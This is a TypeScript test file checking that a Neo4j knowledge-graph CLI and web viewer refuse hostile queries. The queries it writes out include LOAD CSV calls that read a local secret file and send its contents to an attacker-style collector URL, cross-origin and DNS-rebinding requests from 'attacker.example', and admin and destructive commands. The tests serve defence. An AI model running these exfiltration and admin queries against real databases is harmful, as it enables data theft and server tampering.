// The read path against the real Neo4j and the real viewer, probed as an attacker would: it reads the graph and
// nothing else, sends nothing anywhere, cannot touch other sessions, and bounds what it returns.
import { createServer, type IncomingMessage, type Server } from 'node:http';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startViewer } from '../../src/cli/serve-command.js';
import { runCheckedQuery } from '../../src/cli/query-command.js';
import { QueryError } from '../../src/model/errors.js';
import { closeConnection, type Connection } from '../../src/store/connection.js';
import { runQuery } from '../../src/store/run-query.js';
import { applySchema } from '../../src/store/schema.js';
import { Neo4jSource } from '../../src/server/sources.js';
import { connectForTest, testNeo4jUri } from '../helpers/neo4j.js';
import { runKg } from '../helpers/run-kg.js';

const dir = mkdtempSync(join(tmpdir(), 'kg-read-path-'));
const secretFile = join(dir, 'secret.csv');
const SECRET = 'launch-code-7f3a9c';
writeFileSync(secretFile, `${SECRET},x\n`);
const kg = (args: string[]) => runKg(args, { NEO4J_URI: testNeo4jUri() });

// The attacker's server: every request it receives is a leak.
let collector: Server;
const received: IncomingMessage[] = [];
let collectorUrl = '';
let connection: Connection;

beforeAll(async () => {
  connection = await connectForTest();
  await applySchema(connection);
  collector = createServer((request, response) => {
    received.push(request);
    response.end('a,b\n');
  });
  await new Promise<void>((done) => collector.listen(0, '127.0.0.1', done));
  const address = collector.address();
  collectorUrl = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}/collect`;
});
afterAll(async () => {
  await new Promise((done) => collector.close(done));
  await closeConnection(connection);
  rmSync(dir, { recursive: true, force: true });
});

const read = (query: string, options: Partial<{ limit: number; timeoutMs: number; maxBytes: number }> = {}) => runCheckedQuery(connection, query, {}, { write: false, timeoutMs: 30_000, limit: 1000, ...options });

describe('no file is read and nothing is sent', () => {
  it('kg query refuses LOAD CSV of a local file and of a URL, and the file never shows', async () => {
    for (const query of [`LOAD CSV FROM 'file://${secretFile}' AS r RETURN r[0]`, `LOAD CSV FROM '${collectorUrl}' AS r RETURN r`, `MATCH (n) WITH n LIMIT 1 CALL (n) { LOAD CSV FROM '${collectorUrl}?' + n.id AS r RETURN r } RETURN r`]) {
      const run = await kg(['query', query, '--format', 'json']);
      expect(run.code, query).toBe(5);
      expect(run.stderr).toMatch(/LOAD CSV/);
      expect(run.stdout).not.toContain(SECRET);
    }
    expect(received).toHaveLength(0);
  });

  it('kg export --cypher is held to the same read path, and points to the command that can write', async () => {
    const load = await kg(['export', '-f', 'json', '-o', join(dir, 'x.json'), '--cypher', `LOAD CSV FROM '${collectorUrl}' AS r RETURN r`]);
    expect(load.code).toBe(5);
    const create = await kg(['export', '-f', 'json', '-o', join(dir, 'x.json'), '--cypher', 'CREATE (n:Intruder) RETURN n']);
    expect(create.code).toBe(5);
    expect(create.stderr).toMatch(/kg query --write/);
    expect(create.stderr).not.toMatch(/Pass --write/);
    expect(received).toHaveLength(0);
  });

  it('even with --write, the local Neo4j reads no file URL and calls no address', async () => {
    const file = await kg(['query', '--write', `LOAD CSV FROM 'file://${secretFile}' AS r RETURN r[0]`]);
    expect(file.code).toBe(5);
    expect(file.stdout).not.toContain(SECRET);
    const url = await kg(['query', '--write', `LOAD CSV FROM '${collectorUrl}' AS r RETURN r`]);
    expect(url.code).toBe(5);
    expect(received).toHaveLength(0);
  });

  it('the viewer refuses the cross-origin, rebinding and same-origin ways to make it read and send', async () => {
    const viewer = await startViewer({ neo4jUri: testNeo4jUri(), quiet: true }, { port: 0, host: '127.0.0.1' });
    try {
      const origin = viewer.url.replace(/\/$/, '');
      const exfiltrate = JSON.stringify({ query: `LOAD CSV FROM 'file://${secretFile}' AS r LOAD CSV FROM '${collectorUrl}?' + r[0] AS s RETURN s` });
      const attempts: Array<[string, RequestInit, number]> = [
        // A page elsewhere can send text/plain without a preflight: the viewer refuses the type.
        ['cross-origin text/plain', { headers: { 'content-type': 'text/plain', origin: 'http://attacker.example' } }, 415],
        ['cross-origin JSON', { headers: { 'content-type': 'application/json', origin: 'http://attacker.example' } }, 403],
        // DNS rebinding: the attacker's name now points at 127.0.0.1, so the Host header is theirs.
        ['rebound Host', { headers: { 'content-type': 'application/json', origin: 'http://attacker.example:80', host: 'attacker.example' } }, 403],
        // The viewer's own page: the query itself is refused.
        ['same-origin JSON', { headers: { 'content-type': 'application/json', origin } }, 400],
      ];
      for (const [what, init, status] of attempts) {
        const response = await fetch(`${viewer.url}api/cypher`, { method: 'POST', body: exfiltrate, ...init });
        const text = await response.text();
        expect(response.status, what).toBe(status);
        expect(text).not.toContain(SECRET);
      }
      expect(received).toHaveLength(0);
    } finally {
      await viewer.stop();
    }
  });
});

describe('nothing about the server or other sessions', () => {
  it.each([
    ['SHOW TRANSACTIONS', /SHOW TRANSACTIONS/],
    ["TERMINATE TRANSACTIONS 'neo4j-transaction-1'", /TERMINATE TRANSACTIONS/],
    ['SHOW SETTINGS', /SHOW SETTINGS/],
    ["CALL dbms.killConnections(['bolt-1'])", /dbms\.killConnections/],
    ['CALL dbms.listConfig()', /dbms\.listConfig/],
    ["CALL dbms.queryJmx('*:*')", /dbms\.queryJmx/],
    ['CALL db.clearQueryCaches()', /db\.clearQueryCaches/],
    ['CALL { CALL dbms.listConfig() YIELD name RETURN name } RETURN name', /dbms\.listConfig/],
    ['SHOW USERS', /administration/],
    ["CREATE USER intruder SET PASSWORD 'secret-pass'", /administration/],
    ['CREATE INDEX intruder FOR (n:Intruder) ON (n.x)', /schema/],
    ['MATCH (n) DETACH DELETE n', /writes/],
  ])('refuses %s, saying why', async (query, reason) => {
    const attempt = read(query);
    await expect(attempt).rejects.toBeInstanceOf(QueryError);
    await expect(attempt).rejects.toThrow(reason);
  });

  it('answers a missing procedure such as dbms.security.listUsers with exit 5, not an unexpected error', async () => {
    const run = await kg(['query', 'CALL dbms.security.listUsers()']);
    expect(run.code).toBe(5);
    expect(run.stderr).not.toMatch(/unexpected/);
  });

  it('still runs the schema procedures a reader needs', async () => {
    expect((await read('CALL db.labels() YIELD label RETURN label')).columns).toEqual(['label']);
    expect((await read('CALL db.schema.visualization()')).rows).toHaveLength(1);
    expect((await read("CALL db.index.fulltext.queryNodes('entity_names', 'nothing*') YIELD node RETURN node")).rows).toEqual([]);
  });
});

it('search on a store without its index says how to make one', async () => {
  await runQuery(connection, 'DROP INDEX entity_names', {}, { write: true, timeoutMs: 30_000, limit: 1 });
  try {
    await expect(new Neo4jSource(connection).search('Lagos', 5)).rejects.toMatchObject({ hint: expect.stringMatching(/kg schema apply/) });
  } finally {
    await applySchema(connection);
  }
  expect(await new Neo4jSource(connection).search('Lagos', 5)).toEqual([]);
});

describe('bounded results', () => {
  it('says on stderr that rows were cut, and --limit raises the bound', async () => {
    for (const format of ['csv', 'json']) {
      const cut = await kg(['query', 'UNWIND range(1, 1500) AS n RETURN n', '--format', format]);
      expect(cut.code).toBe(0);
      expect(cut.stderr).toMatch(/first 1000 of more rows; raise --limit/);
      const rows = format === 'csv' ? cut.stdout.trim().split('\n').length - 1 : (JSON.parse(cut.stdout) as unknown[]).length;
      expect(rows).toBe(1000);
    }
    const all = await kg(['query', 'UNWIND range(1, 1500) AS n RETURN n', '--format', 'csv', '--limit', '2000']);
    expect(all.stdout.trim().split('\n')).toHaveLength(1501);
    expect(all.stderr).not.toMatch(/first/);
  });

  it('cuts a result at its byte bound, and refuses a single row over it', async () => {
    const result = await read("UNWIND range(1, 100) AS n RETURN n, reduce(s = '', i IN range(1, 1000) | s + 'x') AS text", { maxBytes: 20_000 });
    expect(result.truncated).toBe('bytes');
    expect(result.rows.length).toBeGreaterThan(5);
    expect(result.rows.length).toBeLessThan(30);
    await expect(read('RETURN range(1, 100000) AS big', { maxBytes: 20_000 })).rejects.toThrow(/first row alone/);
  });

  it('stops a query whose one huge value is still arriving at its deadline', async () => {
    await expect(runQuery(connection, 'RETURN range(1, 20000000) AS huge', {}, { write: false, timeoutMs: 1000, limit: 10 })).rejects.toThrow(/timeout/);
    // The connection it was given is untouched.
    expect((await read('RETURN 1 AS one')).rows).toEqual([{ one: 1 }]);
  });

  it('the viewer answers other requests while a huge result is decoded, and stops that one at its deadline', async () => {
    const viewer = await startViewer({ neo4jUri: testNeo4jUri(), quiet: true }, { port: 0, host: '127.0.0.1' });
    try {
      const huge = fetch(`${viewer.url}api/cypher`, { method: 'POST', headers: { 'content-type': 'application/json', origin: viewer.url.replace(/\/$/, '') }, body: JSON.stringify({ query: 'RETURN range(1, 50000000) AS huge' }) });
      let hugeDone = false;
      void huge.then(() => (hugeDone = true));
      await new Promise((r) => setTimeout(r, 1500));
      const info = await fetch(`${viewer.url}api/info`);
      expect(info.status).toBe(200);
      expect(hugeDone).toBe(false);
      const response = await huge;
      expect(response.status).toBe(400);
      expect(((await response.json()) as { error: string }).error).toMatch(/timeout/);
    } finally {
      await viewer.stop();
    }
  });

  it('the viewer says when its rows were cut', async () => {
    const viewer = await startViewer({ neo4jUri: testNeo4jUri(), quiet: true }, { port: 0, host: '127.0.0.1' });
    try {
      const response = await fetch(`${viewer.url}api/cypher`, { method: 'POST', headers: { 'content-type': 'application/json', origin: viewer.url.replace(/\/$/, '') }, body: JSON.stringify({ query: 'UNWIND range(1, 5000) AS n RETURN n' }) });
      const body = (await response.json()) as { rows: unknown[]; truncated: boolean; notice?: string };
      expect(response.status).toBe(200);
      expect(body.rows).toHaveLength(1000);
      expect(body.truncated).toBe(true);
      expect(body.notice).toMatch(/first 1000 of more/);
    } finally {
      await viewer.stop();
    }
  });
});

describe('errors while Neo4j is down', () => {
  it('names the server as unreachable, with exit 4', async () => {
    const closed = createServer();
    await new Promise<void>((done) => closed.listen(0, '127.0.0.1', done));
    const address = closed.address();
    const port = typeof address === 'object' && address ? address.port : 0;
    await new Promise((done) => closed.close(done));
    const run = await runKg(['query', 'RETURN 1'], { NEO4J_URI: `bolt://127.0.0.1:${port}` });
    expect(run.code).toBe(4);
    expect(run.stderr).toMatch(/Cannot reach Neo4j/);
  });
});
